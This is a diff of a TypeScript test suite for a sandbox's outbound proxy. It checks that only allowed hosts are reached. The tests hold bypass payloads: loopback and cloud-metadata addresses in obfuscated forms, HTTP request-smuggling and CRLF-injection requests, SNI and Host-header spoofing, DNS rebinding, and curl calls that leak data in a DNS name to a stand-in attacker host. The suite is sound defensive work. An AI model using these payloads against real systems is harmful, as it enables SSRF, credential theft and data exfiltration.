@@ -1,413 +1,333 @@
 // The only way out of a sandbox: what the proxy lets through, and everything that it must not.
-import { execFileSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
-import { createServer, type IncomingMessage } from 'node:http';
-import { createServer as createTlsServer } from 'node:https';
-import { type AddressInfo, createServer as createTcpServer, type Server } from 'node:net';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import { isPublicAddress } from '../../sandbox/egress/addresses.ts';
-import { type Egress, openEgress } from '../../sandbox/egress/open-egress.ts';
-import { type EgressPolicy, findRule, parseDestination } from '../../sandbox/egress/policy.ts';
-import type { EgressReport } from '../../sandbox/egress/proxy.ts';
-import { readServerName } from '../../sandbox/egress/server-name.ts';
-import type { Sandbox } from '../../sandbox/sandbox.ts';
-import { openTestEngine } from '../sandbox/engine.ts';
+import { type EgressStage, openEgressStage, type Ports } from './egress-stage.ts';
 
-describe('addresses', () => {
-  test.each([
-    '0.0.0.0',
-    '10.1.2.3',
-    '100.64.0.1',
-    '127.0.0.1',
-    '127.255.255.254',
-    '169.254.169.254',
-    '172.16.0.1',
-    '172.31.255.255',
-    '192.0.0.8',
-    '192.168.1.1',
-    '198.18.0.1',
-    '224.0.0.251',
-    '240.0.0.1',
-    '255.255.255.255',
-    '::',
-    '::1',
-    '::127.0.0.1',
-    '::ffff:127.0.0.1',
-    '::ffff:169.254.169.254',
-    '::ffff:8.8.8.8',
-    '64:ff9b::a9fe:a9fe',
-    '64:ff9b:1::1',
-    '2002:7f00:1::',
-    '2001:0:7f00:1::',
-    'fc00::1',
-    'fd00:ec2::254',
-    'fe80::1',
-    'fec0::1',
-    'ff02::1',
-    '100::1',
-    'localhost',
-    '',
-    '2130706433',
-    '0x7f.1',
-    '127.1',
-  ])('%s is inside, or no address', (address) => {
-    expect(isPublicAddress(address)).toBe(false);
-  });
-  test.each([
-    '1.1.1.1',
-    '8.8.8.8',
-    '172.15.0.1',
-    '172.32.0.1',
-    '100.128.0.1',
-    '193.168.1.1',
-    '2606:4700::1111',
-    '2a00:1450::1',
-  ])('%s is public', (address) => {
-    expect(isPublicAddress(address)).toBe(true);
-  });
-});
-
-describe('rules', () => {
-  const policy: EgressPolicy = {
-    rules: [
-      { host: 'Api.Example.com' },
-      { host: '*.cdn.example', ports: [443] },
-      { host: 'read.example', methods: ['GET', 'HEAD'] },
-      { host: 'secret.example', headers: { authorization: 'Bearer x' } },
-    ],
-  };
-  const find = (authority: string, method?: string) => {
-    const destination = parseDestination(authority);
-    return destination === undefined ? undefined : findRule(policy, destination, method)?.host;
-  };
-
-  test.each([
-    ['api.example.com:443', undefined],
-    ['API.EXAMPLE.COM.:443', undefined],
-    ['api.example.com:80', 'POST'],
-    ['a.cdn.example:443', undefined],
-    ['a.b.cdn.example:443', undefined],
-    ['read.example:443', 'GET'],
-    ['secret.example:443', 'POST'],
-  ])('%s %s is named', (authority, method) => {
-    expect(find(authority, method)).toBeDefined();
-  });
-
-  test.each([
-    ['api.example.com:22', undefined],
-    ['evil-api.example.com:443', undefined],
-    ['api.example.com.evil:443', undefined],
-    ['cdn.example:443', undefined],
-    ['evilcdn.example:443', undefined],
-    ['a.cdn.example:80', 'GET'],
-    ['read.example:443', 'POST'],
-    ['read.example:443', undefined],
-    ['secret.example:443', undefined],
-    ['api.example.com', undefined],
-    ['api.example.com:0', undefined],
-    ['api.example.com:65536', undefined],
-    ['api.example.com@evil.example:443', undefined],
-    ['evil.example#api.example.com:443', undefined],
-    ['api.example.com%00.evil.example:443', undefined],
-    ['api.example.com\\.evil.example:443', undefined],
-    ['api..example.com:443', undefined],
-  ])('%s %s is not', (authority, method) => {
-    expect(find(authority, method)).toBeUndefined();
-  });
-});
-
-describe('the name in a TLS hello', () => {
-  test('is not guessed from bytes that are none', () => {
-    expect(readServerName(Buffer.from('GET / HTTP/1.1\r\n'))).toEqual({ kind: 'other' });
-    expect(readServerName(Buffer.alloc(0))).toEqual({ kind: 'more' });
-    expect(readServerName(Buffer.from([22, 3, 1]))).toEqual({ kind: 'more' });
-    expect(readServerName(Buffer.from([22, 3, 1, 0xff, 0xff]))).toEqual({ kind: 'other' });
-    expect(readServerName(Buffer.from([22, 3, 1, 0, 4, 1, 0, 0, 0]))).toEqual({ kind: 'other' });
-    for (let seed = 0; seed < 300; seed += 1) {
-      const bytes = Buffer.from(Array.from({ length: 60 }, (_, index) => (seed * 31 + index * 17) % 256));
-      expect(['more', 'name', 'unnamed', 'other']).toContain(
-        readServerName(Buffer.concat([Buffer.from([22, 3, 1, 0, 55]), bytes])).kind,
-      );
-    }
-  });
-});
+const CURL = 'curl -s -S -m 10';
+const PROXY = '127.0.0.1:39128';
 
 describe('a sandbox with a way out', () => {
-  const engine = openTestEngine();
-  const seen: { host: string; method: string; url: string; headers: IncomingMessage['headers'] }[] = [];
-  const reports: EgressReport[] = [];
-  const folder = mkdtempSync(join(tmpdir(), 'threadsmith-egress-'));
-  const servers: Server[] = [];
-  /** Names of the tests' own internet. Whatever is not here does not exist. */
-  const names: Record<string, string[]> = {};
-  let lookups: string[] = [];
-  let sandbox: Sandbox;
-  let egress: Egress;
-  let plainPort = 0;
-  let tlsPort = 0;
-  let rawPort = 0;
-  let ids = 0;
+  let stage: EgressStage;
+  let ports: Ports;
 
-  const run = async (line: string, env = egress.env) => {
-    ids += 1;
-    const result = await sandbox.run({ id: `e${ids}`, argv: ['bash', '-c', line], env, timeoutMs: 30_000 });
-    return { code: result.exitCode, text: result.output.text };
-  };
+  const raw = (request: string): string =>
+    // Open for a moment: a connection whose end has come is not worked on any more.
+    `(printf '${request.replaceAll('\n', '\\r\\n')}'; sleep 0.3) | timeout 5 socat - TCP:${PROXY}`;
 
   beforeAll(async () => {
-    const image = await engine.provider.ensureImage(() => {});
-    sandbox = await engine.provider.open({ key: 'egress', image });
-    execFileSync(
-      'openssl',
-      [
-        'req',
-        '-x509',
-        '-newkey',
-        'ec',
-        '-pkeyopt',
-        'ec_paramgen_curve:P-256',
-        '-nodes',
-        '-days',
-        '2',
-        '-subj',
-        '/CN=test',
-        '-addext',
-        'subjectAltName=DNS:allowed.test,DNS:other.test,DNS:secret.test',
-        '-keyout',
-        join(folder, 'key.pem'),
-        '-out',
-        join(folder, 'cert.pem'),
-      ],
-      { stdio: 'ignore' },
+    stage = await openEgressStage(
+      'egress',
+      ['allowed.test', 'other.test', 'read.test'],
+      (request, response) => {
+        if (request.url === '/redirect') response.writeHead(302, { location: 'http://inside.test/' });
+        if (request.url === '/redirect-mapped')
+          response.writeHead(302, { location: `http://[::ffff:127.0.0.1]:${ports.plain}/` });
+        response.end('reached');
+      },
     );
-    const [key, cert] = [readFileSync(join(folder, 'key.pem')), readFileSync(join(folder, 'cert.pem'))];
-    const answer = (request: IncomingMessage): string => {
-      seen.push({
-        host: request.headers.host ?? '',
-        method: request.method ?? '',
-        url: request.url ?? '',
-        headers: request.headers,
-      });
-      return 'reached';
-    };
-    const plain = createServer((request, response) => {
-      if (request.url === '/redirect') response.writeHead(302, { location: 'http://inside.test/' });
-      response.end(answer(request));
-    });
-    const tls = createTlsServer({ key, cert }, (request, response) => response.end(answer(request)));
-    const raw = createTcpServer((socket) => {
-      seen.push({ host: 'raw', method: '', url: '', headers: {} });
-      socket.end('raw');
-    });
-    servers.push(plain, tls, raw);
-    [plainPort = 0, tlsPort = 0, rawPort = 0] = await Promise.all([plain, tls, raw].map(listen));
-    // The servers are on this machine's loopback, so the rules for them say that they are inside.
+    ports = stage.ports;
     const local = ['127.0.0.1'];
-    Object.assign(names, {
+    const known: Record<string, readonly string[]> = {
       'allowed.test': local,
       'other.test': local,
-      'secret.test': local,
       'read.test': local,
       'inside.test': local,
+      'private.test': ['10.0.0.7'],
       'mixed.test': ['93.184.216.34', '127.0.0.1'],
       'metadata.test': ['169.254.169.254'],
       'mapped.test': ['::ffff:127.0.0.1'],
-    });
-    const ports = [plainPort, tlsPort];
-    egress = await openEgress(sandbox, {
-      policy: {
+      'translated.test': ['64:ff9b::7f00:1'],
+      'loop6.test': ['::1'],
+      'shared.test': ['100.64.0.1'],
+      'lan.test': ['169.254.1.1'],
+    };
+    for (const [name, addresses] of Object.entries(known)) stage.names.set(name, addresses);
+    const own = [ports.plain, ports.tls];
+    const inside = [
+      'inside.test',
+      'private.test',
+      'mixed.test',
+      'metadata.test',
+      'mapped.test',
+      'translated.test',
+      'loop6.test',
+      'shared.test',
+      '127.0.0.1',
+      '169.254.169.254',
+      '2130706433',
+      '0x7f000001',
+      '0177.0.0.1',
+      '127.1',
+      '::1',
+      '::ffff:127.0.0.1',
+    ];
+    await stage.open(
+      {
         rules: [
-          { host: 'allowed.test', ports, inside: true },
-          { host: 'read.test', ports, methods: ['GET'], inside: true },
-          {
-            host: 'secret.test',
-            ports: [...ports, 443],
-            headers: { authorization: 'Bearer never-inside' },
-            inside: true,
-          },
-          ...[
-            'inside.test',
-            'mixed.test',
-            'metadata.test',
-            'mapped.test',
-            '127.0.0.1',
-            '169.254.169.254',
-            '2130706433',
-          ].map((host) => ({ host, ports: [80, 443, ...ports] })),
+          { host: 'allowed.test', ports: own, reach: 'anywhere' },
+          { host: 'read.test', ports: own, methods: ['GET'], reach: 'anywhere' },
+          { host: 'lan.test', ports: own, reach: 'private' },
+          ...inside.map((host) => ({ host, ports: [80, 443, ...own] })),
         ],
       },
-      ca: cert.toString(),
-      lookup: async (host) => {
-        lookups.push(host);
-        const found = names[host];
-        if (found === undefined) throw new Error('ENOTFOUND');
-        return found.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
-      },
-      onRequest: (report) => reports.push(report),
-    });
-    await sandbox.write('/work/cert.pem', cert);
+      stage.certificate,
+    );
   });
-  beforeEach(() => {
-    seen.length = 0;
-    reports.length = 0;
-    lookups = [];
-  });
-  afterAll(async () => {
-    egress.close();
-    for (const server of servers) server.close();
-    rmSync(folder, { recursive: true });
-    await engine.provider.remove('egress');
-    await engine.close();
-  });
+  beforeEach(() => stage.forget());
+  afterAll(() => stage.close());
 
-  const curl = 'curl -s -S -m 10 --cacert /work/cert.pem';
-
-  test('reaches a named host by HTTP and by TLS, and each request is reported', async () => {
-    expect(await run(`${curl} http://allowed.test:${plainPort}/a?b=c`)).toEqual({ code: 0, text: 'reached' });
-    expect(await run(`${curl} https://allowed.test:${tlsPort}/x`)).toEqual({ code: 0, text: 'reached' });
-    expect(seen.map(({ url }) => url)).toEqual(['/a?b=c', '/x']);
-    expect(reports).toEqual([
-      { method: 'GET', host: 'allowed.test', port: plainPort, refused: null },
-      { method: 'CONNECT', host: 'allowed.test', port: tlsPort, refused: null },
+  test('reaches a named host by HTTP and by TLS, and each request is reported with its size', async () => {
+    const plain = await stage.run(`${CURL} 'http://allowed.test:${ports.plain}/a?b=c'`);
+    expect(plain).toEqual({ code: 0, text: 'reached' });
+    const tls = await stage.run(`${CURL} https://allowed.test:${ports.tls}/x`);
+    expect(tls).toEqual({ code: 0, text: 'reached' });
+    expect(stage.seen.map(({ url }) => url)).toEqual(['/a?b=c', '/x']);
+    expect(stage.reports).toEqual([
+      { method: 'GET', host: 'allowed.test', port: ports.plain, path: '/a', refused: null },
+      { method: 'CONNECT', host: 'allowed.test', port: ports.tls, refused: null },
     ]);
-    expect(lookups).toEqual(['allowed.test', 'allowed.test']);
+    expect(stage.lookups).toEqual(['allowed.test', 'allowed.test']);
+    await expect
+      .poll(() => stage.ended.map(({ traffic }) => traffic))
+      .toMatchObject([
+        { status: 200, sentBytes: 0, receivedBytes: 7 },
+        { status: null, receivedBytes: expect.any(Number) },
+      ]);
   });
 
-  test('Node, Python and git find the way by themselves', async () => {
-    expect(
-      (
-        await run(
-          `node -e "fetch('http://allowed.test:${plainPort}/node').then(r=>r.text()).then(t=>console.log(t))"`,
-        )
-      ).text,
-    ).toContain('reached');
-    expect(
-      (
-        await run(
-          `python3 -c "import urllib.request as u; print(u.urlopen('http://allowed.test:${plainPort}/py').read())"`,
-        )
-      ).text,
-    ).toContain('reached');
-    await run(`git -c http.sslCAInfo=/work/cert.pem ls-remote https://allowed.test:${tlsPort}/repo.git`);
-    expect(seen.some(({ url }) => url.startsWith('/repo.git'))).toBe(true);
+  test('reads the requests to a host whose methods are restricted, trusted by the sandbox', async () => {
+    expect(await stage.run(`${CURL} https://read.test:${ports.tls}/page`)).toEqual({
+      code: 0,
+      text: 'reached',
+    });
+    expect(stage.reports).toEqual([
+      { method: 'GET', host: 'read.test', port: ports.tls, path: '/page', refused: null },
+    ]);
+  });
+
+  test('Node, Python, curl and git find the way, and trust the proxy, by themselves', async () => {
+    const url = `https://read.test:${ports.tls}`;
+    const lines = [
+      `node -e "fetch('${url}/node').then(r=>r.text()).then(t=>console.log(t))"`,
+      `node -e "fetch('http://allowed.test:${ports.plain}/plain-node').then(r=>r.text()).then(t=>console.log(t))"`,
+      `python3 -c "import urllib.request as u; print(u.urlopen('${url}/py').read())"`,
+    ];
+    for (const line of lines) expect((await stage.run(line)).text).toContain('reached');
+    await stage.run(`git ls-remote ${url}/repo.git`);
+    expect(stage.seen.slice(0, 4).map(({ url: path }) => path.split('?')[0])).toEqual([
+      '/node',
+      '/plain-node',
+      '/py',
+      '/repo.git/info/refs',
+    ]);
+  });
+
+  const tunnelThenPlain = (host: string): string =>
+    raw(
+      `CONNECT allowed.test:${ports.plain} HTTP/1.1\nHost: allowed.test\n\nGET /tunnel HTTP/1.1\nHost: ${host}\nConnection: close\n\n`,
+    );
+
+  test('plain HTTP in a tunnel is read like any other', async () => {
+    expect((await stage.run(tunnelThenPlain(`allowed.test:${ports.plain}`))).text).toContain('reached');
+    expect(stage.reports.map(({ method, path }) => [method, path])).toEqual([['GET', '/tunnel']]);
   });
 
   test.each<[string, () => string]>([
-    ['a host that is not named', () => `${curl} --fail http://other.test:${plainPort}/`],
-    ['a host that is not named, by TLS', () => `${curl} https://other.test:${tlsPort}/`],
-    ['a port that is not named', () => `${curl} -p http://allowed.test:${rawPort}/`],
-    ['a named host whose name leads inside', () => `${curl} --fail http://inside.test:${plainPort}/`],
-    ['a name with one address inside', () => `${curl} -p http://mixed.test:${plainPort}/`],
-    ['the metadata service by a name', () => `${curl} --fail http://metadata.test/`],
-    ['an address mapped into IPv6', () => `${curl} -p http://mapped.test:${plainPort}/`],
-    ['loopback by its address', () => `${curl} --fail --noproxy '' http://127.0.0.1:${plainPort}/`],
-    ['the metadata service by its address', () => `${curl} --fail http://169.254.169.254/`],
-    ['loopback as a number', () => `${curl} -p http://2130706433:${plainPort}/`],
-    ['a tunnel to loopback in IPv6', () => `${curl} -p --noproxy '' 'http://[::1]:${plainPort}/'`],
+    ['a host that is not named', () => `${CURL} --fail http://other.test:${ports.plain}/`],
+    ['a host that is not named, by TLS', () => `${CURL} https://other.test:${ports.tls}/`],
+    ['a port that is not named', () => `${CURL} -p http://allowed.test:${ports.raw}/`],
+    ['the host of the worker on another port', () => `${CURL} -p http://inside.test:2375/`],
+    ['a named host whose name leads inside', () => `${CURL} --fail http://inside.test:${ports.plain}/`],
+    ['a tunnel to a name that leads inside', () => `${CURL} -p http://inside.test:${ports.plain}/`],
+    ['a tunnel to a private range', () => `${CURL} -p https://private.test/`],
+    ['a name with one address inside', () => `${CURL} -p http://mixed.test:${ports.plain}/`],
+    ['the metadata service by a name', () => `${CURL} --fail http://metadata.test/`],
+    ['an address shared by a carrier', () => `${CURL} --fail http://shared.test/`],
+    ['link-local where private networks are allowed', () => `${CURL} --fail http://lan.test:${ports.plain}/`],
+    ['an address mapped into IPv6', () => `${CURL} -p http://mapped.test:${ports.plain}/`],
+    ['an address translated into IPv6', () => `${CURL} -p http://translated.test:${ports.plain}/`],
+    ['loopback in IPv6 by a name', () => `${CURL} -p http://loop6.test:${ports.plain}/`],
+    ['loopback by its address', () => `${CURL} --fail --noproxy '' http://127.0.0.1:${ports.plain}/`],
+    ['the metadata service by its address', () => `${CURL} --fail http://169.254.169.254/`],
+    ['loopback as a decimal number', () => raw(`CONNECT 2130706433:${ports.plain} HTTP/1.1\n\n`) + FAILS],
+    ['loopback as a hexadecimal number', () => raw(`CONNECT 0x7f000001:${ports.plain} HTTP/1.1\n\n`) + FAILS],
+    ['loopback in octal', () => raw(`GET http://0177.0.0.1:${ports.plain}/ HTTP/1.1\nHost: x\n\n`) + FAILS],
+    ['loopback in short', () => raw(`GET http://127.1:${ports.plain}/ HTTP/1.1\nHost: x\n\n`) + FAILS],
+    ['loopback in IPv6', () => raw(`CONNECT [::1]:${ports.plain} HTTP/1.1\n\n`) + FAILS],
+    ['loopback mapped', () => raw(`CONNECT [::ffff:127.0.0.1]:${ports.plain} HTTP/1.1\n\n`) + FAILS],
     [
-      'a tunnel that asks for another name',
+      'a tunnel that asks TLS for another name',
       () =>
-        `${curl} --connect-to other.test:${tlsPort}:allowed.test:${tlsPort} https://other.test:${tlsPort}/`,
+        `${CURL} --connect-to other.test:${ports.tls}:allowed.test:${ports.tls} https://other.test:${ports.tls}/`,
+    ],
+    [
+      'a tunnel to a read host that asks for another name',
+      () =>
+        `${CURL} --connect-to other.test:${ports.tls}:read.test:${ports.tls} https://other.test:${ports.tls}/`,
     ],
     [
       'a tunnel without a name',
-      () =>
-        `openssl s_client -proxy 127.0.0.1:39128 -connect allowed.test:${tlsPort} -noservername < /dev/null`,
+      () => `openssl s_client -proxy ${PROXY} -connect allowed.test:${ports.tls} -noservername < /dev/null`,
     ],
-    ['a method that is not named', () => `${curl} --fail -X POST -d x http://read.test:${plainPort}/`],
-    ['a tunnel where methods are named', () => `${curl} https://read.test:${tlsPort}/`],
-    ['a tunnel where headers are added', () => `${curl} https://secret.test:${tlsPort}/`],
-    ['a name in another user part', () => `${curl} --fail http://allowed.test:x@other.test:${plainPort}/`],
-    ['another scheme', () => `${curl} --fail -x http://127.0.0.1:39128 ftp://allowed.test:${plainPort}/`],
-    ['a name that does not exist', () => `${curl} --fail http://leak-of-secrets.allowed.test:${plainPort}/`],
+    [
+      'another Host header in a read tunnel',
+      () => `${CURL} --fail -H 'Host: other.test' https://read.test:${ports.tls}/`,
+    ],
+    ['another Host header in a plain tunnel', () => tunnelThenPlain('other.test') + FAILS],
+    ['a method that is not named', () => `${CURL} --fail -X POST -d x http://read.test:${ports.plain}/`],
+    [
+      'a method that is not named, by TLS',
+      () => `${CURL} --fail -X POST -d x https://read.test:${ports.tls}/`,
+    ],
+    ['a method in other letters', () => `${CURL} --fail -X get https://read.test:${ports.tls}/`],
+    [
+      'bytes that are no HTTP to a read host',
+      () => raw(`CONNECT read.test:${ports.tls} HTTP/1.1\n\nhello\n\n`) + FAILS,
+    ],
+    ['a name in another user part', () => `${CURL} --fail http://allowed.test:x@other.test:${ports.plain}/`],
+    ['another scheme', () => `${CURL} --fail -x http://${PROXY} ftp://allowed.test:${ports.plain}/`],
+    [
+      'https without a tunnel',
+      () => raw(`GET https://allowed.test:${ports.tls}/ HTTP/1.1\nHost: x\n\n`) + FAILS,
+    ],
+    ['a path without a host', () => raw(`GET / HTTP/1.1\nHost: allowed.test:${ports.plain}\n\n`) + FAILS],
+    [
+      'a line break in the target',
+      () => raw(`GET http://allowed.test:${ports.plain}/a\nX: y HTTP/1.1\nHost: x\n\n`) + FAILS,
+    ],
+    ['a line break in the host', () => raw(`CONNECT allowed.test\n:${ports.plain} HTTP/1.1\n\n`) + FAILS],
+    ['a length and chunks at once', () => smuggled('Content-Length: 5\nTransfer-Encoding: chunked') + FAILS],
+    ['two lengths', () => smuggled('Content-Length: 5\nContent-Length: 6') + FAILS],
+    ['chunks in other words', () => smuggled('Transfer-Encoding: xchunked') + FAILS],
+    ['a folded header', () => smuggled('X: a\n Transfer-Encoding: chunked\nContent-Length: -1') + FAILS],
+    [
+      'headers without an end',
+      () =>
+        `(printf 'GET http://allowed.test:${ports.plain}/ HTTP/1.1\\r\\nX: '; head -c 200000 /dev/zero | tr '\\0' a; printf '\\r\\n\\r\\n') | timeout 5 socat - TCP:${PROXY}${FAILS}`,
+    ],
+    ['a name below a named host', () => `${CURL} --fail http://c2VjcmV0.allowed.test:${ports.plain}/`],
   ])('%s is not reached', async (_what, line) => {
-    expect((await run(line())).code).not.toBe(0);
-    expect(seen).toEqual([]);
+    const { code, text } = await stage.run(line());
+    expect([code === 0 ? text : '', stage.seen]).toEqual(['', []]);
   });
+
+  /** Of a raw exchange: it counts as failed unless a server answered. */
+  const FAILS = " | grep -q '^reached\\|^raw' && echo reached";
+
+  function smuggled(framing: string): string {
+    return raw(
+      `POST http://allowed.test:${ports.plain}/first HTTP/1.1\nHost: x\n${framing}\n\n0\n\nGET http://other.test:${ports.plain}/ HTTP/1.1\nHost: x\n\n`,
+    );
+  }
 
   test('names that no rule has are not even looked up: a name is a message', async () => {
-    await run(`${curl} http://secret-data.attacker.test/; ${curl} https://secret-data.attacker.test/`);
-    expect(lookups).toEqual([]);
-    expect(reports.map(({ refused }) => refused === null)).toEqual([false, false]);
+    const name = 'secret-data.attacker.test';
+    await stage.run(`${CURL} http://${name}/; ${CURL} https://${name}/; ${CURL} http://x.${name}/`);
+    expect(stage.lookups).toEqual([]);
+    expect(stage.reports.map(({ refused }) => refused === null)).toEqual([false, false, false]);
   });
 
-  test('a redirect is checked as a request of its own', async () => {
-    await run(`${curl} -L http://allowed.test:${plainPort}/redirect`);
-    expect(seen.map(({ url }) => url)).toEqual(['/redirect']);
-    expect(reports.at(-1)).toMatchObject({
-      host: 'inside.test',
-      refused: expect.stringContaining('public internet'),
-    });
+  test.each([
+    ['/redirect', 'public internet'],
+    ['/redirect-mapped', 'not on the repo'],
+  ])('a redirect (%s) is checked as a request of its own', async (path, why) => {
+    await stage.run(`${CURL} -L http://allowed.test:${ports.plain}${path}`);
+    expect(stage.seen.map(({ url }) => url)).toEqual([path]);
+    expect(stage.reports.at(-1)?.refused).toContain(why);
   });
 
-  test('a header is added outside, and its value is nowhere in the sandbox', async () => {
-    const { text } = await run(
-      `${curl} -v -H 'Proxy-Authorization: Basic eA==' http://secret.test:${tlsPort}/ 2>&1; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'`,
+  test('the Host header does not decide where a request to the proxy goes', async () => {
+    const target = `http://allowed.test:${ports.plain}/`;
+    await stage.run(
+      `${raw(`GET ${target} HTTP/1.1\nHost: other.test:${ports.plain}\nConnection: close\n\n`)}`,
     );
-    expect(seen[0]?.headers).toMatchObject({ authorization: 'Bearer never-inside' });
-    expect(seen[0]?.headers).not.toHaveProperty('proxy-authorization');
-    expect(text).not.toContain('never-inside');
+    expect(stage.seen.map(({ host }) => host)).toEqual([`allowed.test:${ports.plain}`]);
+  });
+
+  test('an escaped line break in a target stays one', async () => {
+    const path = '/a%0d%0aX:%20y%0d%0a%0d%0aGET%20/b';
+    await stage.run(
+      `${CURL} http://allowed.test:${ports.plain}${path} https://read.test:${ports.tls}${path}`,
+    );
+    expect(stage.seen.map(({ url, headers }) => [url, headers['x']])).toEqual([
+      [path, undefined],
+      [path, undefined],
+    ]);
+  });
+
+  test('a body whose framing is taken away does not become a second request', async () => {
+    const hidden = `POST /smuggled HTTP/1.1\nHost: read.test:${ports.plain}\nContent-Length: 0\n\n`;
+    const chunk = `${(hidden.length + 6).toString(16)}\n${hidden}\n0\n\n`;
+    for (const named of ['transfer-encoding', 'content-length, transfer-encoding, host']) {
+      const head = `GET http://read.test:${ports.plain}/first HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\nConnection: ${named}\n\n`;
+      await stage.run(`${raw(head + chunk)} | cat`);
+    }
+    expect(stage.seen.filter(({ url, method }) => url === '/smuggled' || method !== 'GET')).toEqual([]);
+  });
+
+  test('what follows a refused request on the same connection is checked by itself', async () => {
+    const first = `GET http://other.test:${ports.plain}/1 HTTP/1.1\nHost: x\n\n`;
+    const second = `GET http://inside.test:${ports.plain}/2 HTTP/1.1\nHost: x\n\n`;
+    await stage.run(`${raw(first + second)} | cat`);
+    expect(stage.seen).toEqual([]);
   });
 
   test('nothing is reached around the proxy', async () => {
     for (const line of [
-      `curl -s -m 2 --noproxy '*' http://127.0.0.1:${plainPort}/`,
-      `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${plainPort}), 2)"`,
+      `curl -s -m 2 --noproxy '*' http://127.0.0.1:${ports.plain}/`,
+      `curl -s -m 2 --noproxy '*' http://allowed.test:${ports.plain}/`,
+      `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${ports.plain}), 2)"`,
       `python3 -c "import socket; socket.create_connection(('1.1.1.1', 443), 2)"`,
+      `python3 -c "import socket; socket.getaddrinfo('allowed.test', 80)"`,
     ]) {
-      expect((await run(line, {})).code).not.toBe(0);
+      expect((await stage.run(line, {})).code).not.toBe(0);
     }
-    expect(seen).toEqual([]);
+    expect(stage.seen).toEqual([]);
   });
 
-  test('garbage, half requests and smuggled ones do no harm', async () => {
-    const attempts = [
+  test('garbage and half requests do no harm', async () => {
+    for (const attempt of [
       "printf 'CONNECT\\r\\n\\r\\n'",
-      "printf 'GET / HTTP/1.1\\r\\n\\r\\n'",
-      `printf 'GET http://allowed.test:${plainPort}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.test:${plainPort}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'`,
       'head -c 300000 /dev/urandom',
-      "printf 'GET http://a/ HTTP/1.1\\r\\nX: '; head -c 300000 /dev/zero | tr '\\0' a",
+      'head -c 3 /dev/zero',
+    ])
+      await stage.run(`(${attempt}) | timeout 3 socat - TCP:${PROXY} > /dev/null`);
+    expect(stage.seen).toEqual([]);
+    const after = await stage.run(`${CURL} http://allowed.test:${ports.plain}/after`);
+    expect(after).toEqual({ code: 0, text: 'reached' });
+  });
+
+  test('a name that changes its address is reached at the one that was checked, and checked the next time', async () => {
+    stage.names.set('inside.test', ['93.184.216.34']);
+    stage.names.set('rebound.test', ['127.0.0.1']);
+    const rules = [
+      { host: 'rebound.test', ports: [ports.plain, ports.tls], reach: 'anywhere' as const },
+      { host: 'read.test', ports: [ports.tls], methods: ['GET'], reach: 'anywhere' as const },
     ];
-    for (const attempt of attempts)
-      await run(`(${attempt}) | timeout 3 socat - TCP:127.0.0.1:39128 > /dev/null`);
-    expect(seen.filter(({ host }) => host.startsWith('other'))).toEqual([]);
-    expect(await run(`${curl} http://allowed.test:${plainPort}/after`)).toEqual({ code: 0, text: 'reached' });
+    await stage.open({ rules }, stage.certificate);
+    expect((await stage.run(`${CURL} http://rebound.test:${ports.plain}/1`)).text).toBe('reached');
+    expect(stage.lookups).toEqual(['rebound.test']);
+    // Two requests in one tunnel: one look at the name.
+    const url = `https://read.test:${ports.tls}`;
+    expect((await stage.run(`${CURL} ${url}/2 ${url}/3`)).text).toBe('reachedreached');
+    expect(stage.lookups).toEqual(['rebound.test', 'read.test']);
+    await stage.open({ rules: rules.map(({ reach: _any, ...rule }) => rule) }, stage.certificate);
+    stage.forget();
+    expect((await stage.run(`${CURL} --fail http://rebound.test:${ports.plain}/`)).code).not.toBe(0);
+    expect(stage.seen).toEqual([]);
   });
 
-  test('a name that changes its address after the check is reached at the one that was checked', async () => {
-    let turn = 0;
-    const changing = await openEgressWith(async () => {
-      turn += 1;
-      return [{ address: turn === 1 ? '127.0.0.1' : '169.254.169.254', family: 4 }];
-    });
-    expect(await changing(`${curl} http://allowed.test:${plainPort}/pinned`)).toMatchObject({
-      text: 'reached',
-    });
-    expect(turn).toBe(1);
+  test('bytes and names have an end', async () => {
+    const rules = [{ host: '*.allowed.test', ports: [ports.plain], reach: 'anywhere' as const }];
+    await stage.open({ rules, maxBytes: 20 });
+    for (let index = 0; index < 210; index += 1) stage.names.set(`n${index}.allowed.test`, ['127.0.0.1']);
+    const ask = `for i in $(seq 0 205); do echo "url=http://n$i.allowed.test:${ports.plain}/"; done | ${CURL} -o /dev/null -K -`;
+    await stage.run(ask);
+    expect(stage.seen).toHaveLength(3);
+    expect(stage.reports.at(-1)?.refused).toContain('network_mb');
+    await stage.open({ rules });
+    stage.forget();
+    await stage.run(ask);
+    expect(stage.seen).toHaveLength(200);
+    expect(stage.reports.at(-1)?.refused).toContain('names');
   });
-
-  /** Takes the way out over with other names; the newest listener gets the connections. */
-  async function openEgressWith(lookup: (host: string) => Promise<{ address: string; family: number }[]>) {
-    const other = await openEgress(sandbox, {
-      policy: { rules: [{ host: 'allowed.test', ports: [plainPort, tlsPort], inside: true }] },
-      lookup,
-      onRequest: () => {},
-    });
-    return (line: string) => run(line, other.env);
-  }
 });
-
-function listen(server: Server): Promise<number> {
-  return new Promise((resolve) => {
-    server.listen(0, '127.0.0.1', () => {
-      const address = server.address();
-      resolve(isAddress(address) ? address.port : 0);
-    });
-  });
-}
-
-function isAddress(address: AddressInfo | string | null): address is AddressInfo {
-  return typeof address === 'object' && address !== null;
-}
